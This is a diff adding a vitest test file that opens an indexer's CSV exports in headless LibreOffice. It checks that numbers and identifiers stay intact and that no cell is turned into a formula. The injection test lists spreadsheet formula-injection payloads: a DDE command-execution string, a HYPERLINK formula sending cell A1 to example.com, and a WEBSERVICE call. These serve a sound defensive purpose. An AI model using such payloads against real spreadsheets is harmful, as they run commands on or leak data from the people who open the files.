@@ -1,0 +1,313 @@
+import { execFileSync } from 'node:child_process'
+import fs from 'node:fs'
+import os from 'node:os'
+import path from 'node:path'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { addressOf, makeAccounts, makeSignatures, makeTokenAccounts } from '@/lib/testing/stand-in/fixtures'
+import { describeWith, pathOfTool } from '@/lib/testing/tools'
+import { columns, fileColumns } from '../../account/file-columns'
+import { csvFields, csvRecords } from '../../format/csv'
+import type { Items, RowsName } from '../../protocol/rpc/items'
+import { exportHead, exportRows, exportTail } from './document'
+import { Totals } from './totals'
+
+/*
+ * CSV exports opened by LibreOffice, without a window, and saved in its own flat format, which names each cell's type:
+ * no formula, no integer with fewer digits, no identifier that became something else.
+ * facts/reliability.md S13, features.md a23.
+ */
+
+/**
+ * How a CSV file is read: comma, quotes, UTF-8, from the first line. The second recognises more than LibreOffice does by
+ * default: dates and the like, and formulas as formulas.
+ */
+const READINGS = {
+  'as it opens': '44,34,76,1',
+  'with dates recognised and formulas evaluated': '44,34,76,1,,1033,false,true,false,false,false,0,true',
+}
+
+interface Cell {
+  /** `string`, `float`, `date`, `boolean`, `percentage`, …; empty for an empty one. */
+  type: string
+  text: string
+  /** What a number is kept as. */
+  value: string
+  formula: string | null
+}
+
+let folder: string
+
+beforeAll(() => {
+  folder = fs.mkdtempSync(path.join(os.tmpdir(), 'leafscan-sheet-'))
+})
+
+afterAll(() => fs.rmSync(folder, { recursive: true, force: true }))
+
+/** Rows of cells as LibreOffice has them after it opened the text. */
+function opened(csv: string, reading: string): Cell[][] {
+  const file = path.join(folder, 'export.csv')
+  fs.writeFileSync(file, csv)
+  const profile = `-env:UserInstallation=file://${path.join(folder, 'profile')}`
+  const filter = `--infilter=CSV:${reading}`
+  const args = [profile, '--headless', filter, '--convert-to', 'fods', '--outdir', folder, file]
+  execFileSync(String(pathOfTool('soffice')), args, { timeout: 180_000, stdio: 'pipe' })
+  return cellsOf(fs.readFileSync(path.join(folder, 'export.fods'), 'utf8'))
+}
+
+function cellsOf(xml: string): Cell[][] {
+  const rows: Cell[][] = []
+  for (const [, rowTag = '', inRow = ''] of xml.matchAll(
+    /<table:table-row\b([^>]*[^/])?>([\s\S]*?)<\/table:table-row>/g,
+  )) {
+    const cells: Cell[] = []
+    for (const [, tag = '', inCell = ''] of inRow.matchAll(
+      /<table:table-cell\b([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g,
+    )) {
+      const attribute = (name: string) => new RegExp(`\\b${name}="([^"]*)"`).exec(tag)?.[1]
+      const paragraphs = [...inCell.matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map(([, text = '']) => plain(text))
+      const cell = {
+        type: attribute('office:value-type') ?? '',
+        text: paragraphs.join('\n'),
+        value: attribute('office:value') ?? '',
+        formula: attribute('table:formula') ?? null,
+      }
+      const times = Number(attribute('table:number-columns-repeated') ?? 1)
+      for (let i = 0; i < Math.min(times, 100); i++) cells.push(cell)
+    }
+    const times = Number(/number-rows-repeated="(\d+)"/.exec(rowTag)?.[1] ?? 1)
+    for (let i = 0; i < Math.min(times, 100); i++) rows.push(cells)
+  }
+  return rows
+}
+
+/** Text of a cell's paragraph: spaces and tabs are elements. */
+function plain(xml: string): string {
+  return xml
+    .replaceAll(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count = '1') => ' '.repeat(Number(count)))
+    .replaceAll('<text:tab/>', '\t')
+    .replaceAll(/<[^>]+>/g, '')
+    .replaceAll(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)))
+    .replaceAll('&lt;', '<')
+    .replaceAll('&gt;', '>')
+    .replaceAll('&quot;', '"')
+    .replaceAll('&apos;', "'")
+    .replaceAll('&amp;', '&')
+}
+
+function fileOf<R extends RowsName>(kind: R, rows: readonly Items[R][]): string {
+  const request = {
+    method: 'getCompressedAccountsByOwner' as const,
+    rows: kind,
+    params: { owner: OWNER, filters: [{ memcmp: { offset: 0, bytes: 'a' } }] },
+    network: 'test, with; separators',
+    from: null,
+    limit: null,
+    startedAt: '2026-11-20T12:00:00.000Z',
+  }
+  const end = {
+    rows: rows.length,
+    repeatsRemoved: 0,
+    slots: null,
+    endedAt: '',
+    complete: true,
+    cursor: null,
+    sha256: '',
+    totals: new Totals(kind, {}).addRows(rows).read(),
+  }
+  return exportHead('csv', request) + exportRows('csv', kind, rows) + exportTail('csv', end)
+}
+
+/** Rows below the names of the columns, as many as there are. */
+function below(cells: Cell[][], kind: RowsName, count: number): Cell[][] {
+  const [first] = columns[kind]
+  const names = cells.findIndex(([cell]) => cell?.text === first?.name)
+  expect(names).toBeGreaterThan(0)
+  return cells.slice(names + 1, names + 1 + count)
+}
+
+const OWNER = addressOf('owner in a sheet')
+const EDGES = [
+  0n,
+  1n,
+  999_999_999_999_999n,
+  2n ** 53n - 1n,
+  9_007_199_254_740_995n,
+  123_456_789_012_345_678n,
+  2n ** 64n - 1n,
+]
+
+for (const [name, reading] of Object.entries(READINGS)) {
+  describeWith('soffice', `a CSV file opened by LibreOffice ${name}`, () => {
+    test('keeps every digit of every integer and every identifier', () => {
+      const kind = 'accounts'
+      // Among the identifiers such that look like numbers: digits, and digits with one e.
+      const odd = [
+        '1'.repeat(32),
+        `1e${'1'.repeat(30)}`,
+        `12E${'2'.repeat(40)}`,
+        `${'9'.repeat(20)}E5${'1'.repeat(10)}`,
+      ]
+      const rows = makeAccounts(OWNER, 60).map((row, i) => ({
+        ...row,
+        address: odd[i % odd.length] as string,
+        lamports: EDGES[i % EDGES.length] as bigint,
+        seq: EDGES[(i + 3) % EDGES.length] as bigint,
+        data: {
+          discriminator: EDGES[(i + 1) % EDGES.length] as bigint,
+          data: ['1234', '0012', '1E12', 'TRUE', 'DEC1', '1MAY', 'AQAAAA==', '12/3', '1/2/', ''][i % 10] as string,
+          dataHash: row.hash,
+        },
+      }))
+      const cells = opened(fileOf(kind, rows), reading)
+      const shown = below(cells, kind, rows.length)
+      expect(shown).toHaveLength(rows.length)
+      shown.forEach((cell, i) => {
+        const row = rows[i] as (typeof rows)[number]
+        const expected = [
+          row.hash,
+          row.address,
+          row.owner,
+          row.lamports,
+          row.data.discriminator,
+          row.data.data,
+          row.data.dataHash,
+          row.tree,
+          row.leafIndex,
+          row.seq,
+          row.slotCreated,
+        ]
+        expect(cell.slice(0, expected.length).map(({ text }) => text.replace(/^'/, ''))).toEqual(
+          expected.map((value) => String(value ?? '')),
+        )
+        for (const { type, text, value } of cell) {
+          expect(['', 'string', 'float']).toContain(type)
+          // What is kept as a number is the number that is meant.
+          if (type === 'float') expect(value).toBe(text)
+        }
+      })
+    })
+
+    test('holds no formula whatever an indexer writes, and nothing of it leaves its cell', () => {
+      const kind = 'tokenAccounts'
+      const beginnings = [
+        '=',
+        '+',
+        '-',
+        '@',
+        '\t',
+        '\r',
+        '\n',
+        '\0',
+        '＝',
+        '＋',
+        '－',
+        '＠',
+        ' ',
+        '"',
+        "'",
+        ';',
+        ',',
+        '\u202e',
+        '\ufeff',
+        '\u0007',
+      ]
+      const payloads = [
+        '1+1',
+        'SUM(A1:A9)',
+        "cmd|' /C calc'!A0",
+        'HYPERLINK("http://example.com?x="&A1,"here")',
+        'WEBSERVICE("http://example.com")',
+      ]
+      const poisons = [
+        ...beginnings.flatMap((first) => payloads.map((payload) => first + payload)),
+        ...beginnings.flatMap((first) => beginnings.map((second) => `${first}${second}=1+1`)),
+        'a;=1+1',
+        'a\t=1+1',
+        'a,=1+1',
+        'a\r\n=1+1',
+        'a"\r\n=1+1,"',
+        '"=1+1"',
+        '\u202eabc',
+        '\u2066=1+1',
+        'שלום=1',
+        '\u0001\u0002\u0003',
+      ]
+      const rows = makeTokenAccounts(addressOf('delegate in a sheet'), poisons.length).map((row, i) => {
+        const text = poisons[i] as string
+        return { account: { ...row.account, address: text }, tokenData: { ...row.tokenData, mint: text, tlv: text } }
+      })
+      const csv = fileOf(kind, rows)
+      const cells = opened(csv, reading)
+      const formulas = cells
+        .flat()
+        .filter(({ formula, type }) => formula !== null || !['', 'string', 'float'].includes(type))
+      expect(formulas).toEqual([])
+      // Cells beside the poisoned ones are what they are: nothing was split, joined or dropped.
+      const names = fileColumns(kind, {}).map(({ name }) => name)
+      const hash = names.indexOf('account.hash')
+      const rowByHash = new Map(cells.map((row) => [row[hash]?.text, row]))
+      for (const row of rows) {
+        const shown = rowByHash.get(row.account.hash)
+        expect(shown?.[names.indexOf('tokenData.owner')]?.text).toBe(row.tokenData.owner)
+        expect(shown?.[names.indexOf('account.slotCreated')]?.text).toBe(String(row.account.slotCreated))
+        expect(shown?.[names.indexOf('tokenData.amount')]?.text.replace(/^'/, '')).toBe(String(row.tokenData.amount))
+      }
+      // The file itself says the same.
+      expect(
+        csvRecords(csv).filter(
+          (record) => csvFields(record)[hash] !== undefined && csvFields(record).length === names.length,
+        ),
+      ).toHaveLength(rows.length + 1)
+    })
+
+    test('sums the numbers that are bare, of every amount that a spreadsheet can keep', () => {
+      const kind = 'tokenAccounts'
+      const mint = addressOf('mint in a sheet')
+      const mints = { [mint]: { mint, decimals: 9, symbol: null, name: null, program: '', source: null } }
+      const amounts = [0n, 1n, 3_100_000_000n, 123_456_789_012_345n, 999_999_999_999_999n, 2n ** 63n, 2n ** 64n - 1n]
+      const rows = makeTokenAccounts(addressOf('delegate in a sheet'), amounts.length).map((row, i) => ({
+        account: { ...row.account, lamports: amounts[i] as bigint },
+        tokenData: { ...row.tokenData, mint, amount: amounts[i] as bigint },
+      }))
+      const text = exportRows('csv', kind, rows, {}, mints)
+      const names = fileColumns(kind, {}).map(({ name }) => name)
+      const letter = (name: string) => {
+        const index = names.indexOf(name)
+        return `${index < 26 ? '' : String.fromCharCode(64 + Math.floor(index / 26))}${String.fromCharCode(65 + (index % 26))}`
+      }
+      const summed = ['tokenData.amount', 'account.lamports', 'amount_in_tokens']
+      const formulas = summed.map((name) => `=SUM(${letter(name)}1:${letter(name)}${rows.length})`)
+      // Formulas are read as such in the second reading alone: there the sheet itself does the sums.
+      const cells = opened(`${text}${formulas.map((formula) => `"${formula}"`).join(',')}\r\n`, reading)
+      const bare = amounts.filter((amount) => amount < 10n ** 15n)
+      const total = Number(bare.reduce((sum, amount) => sum + amount))
+      const sums = [total, total, total / 1e9]
+      summed.forEach((name, i) => {
+        const column = cells.slice(0, rows.length).map((row) => row[names.indexOf(name)])
+        const numbers = column.filter((cell) => cell?.type === 'float')
+        expect([name, numbers.length]).toEqual([name, bare.length])
+        expect(numbers.reduce((sum, cell) => sum + Number(cell?.value), 0)).toBeCloseTo(sums[i] as number, 3)
+        if (reading === READINGS['with dates recognised and formulas evaluated']) {
+          expect(Number(cells[rows.length]?.[i]?.value)).toBeCloseTo(sums[i] as number, 3)
+        }
+      })
+    })
+
+    test('has each comment in a cell of its own, so that the table keeps its columns', () => {
+      const kind = 'accounts'
+      const cells = opened(fileOf(kind, makeAccounts(OWNER, 3)), reading)
+      const remarks = cells.filter(([cell]) => cell?.text.startsWith('#'))
+      expect(remarks.length).toBeGreaterThan(10)
+      expect(remarks.flatMap(([, ...others]) => others.filter(({ text }) => text !== ''))).toEqual([])
+    })
+
+    test('shows signatures, slots and times whole', () => {
+      const kind = 'signatures'
+      const rows = makeSignatures(50)
+      const shown = below(opened(fileOf(kind, rows), reading), kind, rows.length)
+      expect(shown.map((cells) => cells.slice(0, 3).map(({ text }) => text))).toEqual(
+        rows.map(({ signature, slot, blockTime }) => [signature, String(slot), String(blockTime)]),
+      )
+    })
+  })
+}
